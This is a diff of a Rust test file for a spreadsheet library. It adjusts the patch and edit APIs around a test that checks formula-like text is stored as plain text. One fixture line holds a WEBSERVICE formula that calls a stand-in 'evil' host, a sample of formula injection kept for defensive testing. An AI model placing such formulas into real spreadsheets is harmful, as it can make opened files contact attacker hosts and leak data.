@@ -3,6 +3,7 @@
 use std::io::Write;
 
 use archie_sheet::book::diff::diff;
+use archie_sheet::book::looks::LookChanges;
 use archie_sheet::book::patch::{NewCell, SheetEdits, patch};
 use archie_sheet::book::{BookError, Content, guard, read};
 use archie_sheet::changes::edits;
@@ -117,6 +118,7 @@ fn a_sheet_of_two_cells_at_its_ends_costs_two_cells() {
                 )
             })
             .into(),
+        ..SheetEdits::default()
     };
     let far = patch(&sales(), &[edits]).unwrap();
     assert_eq!(read(&far).unwrap().sheet("Far").unwrap().values.len(), 2);
@@ -172,7 +174,7 @@ fn text_that_looks_like_a_formula_is_written_as_text() {
         .insert(place("C1"), "WEBSERVICE(\"http://evil\")".to_owned());
     sheet.formulas.insert(place("C2"), "SUM(A1:A9)".to_owned());
     let changes = diff(&read(&before).unwrap(), &after);
-    let written = patch(&before, &edits(&changes, &before).unwrap()).unwrap();
+    let written = patch(&before, &edits(&changes, &LookChanges::default())).unwrap();
     let found = read(&written).unwrap();
     let found = found.sheet("S").unwrap();
     for (row, text) in dangerous.iter().enumerate() {
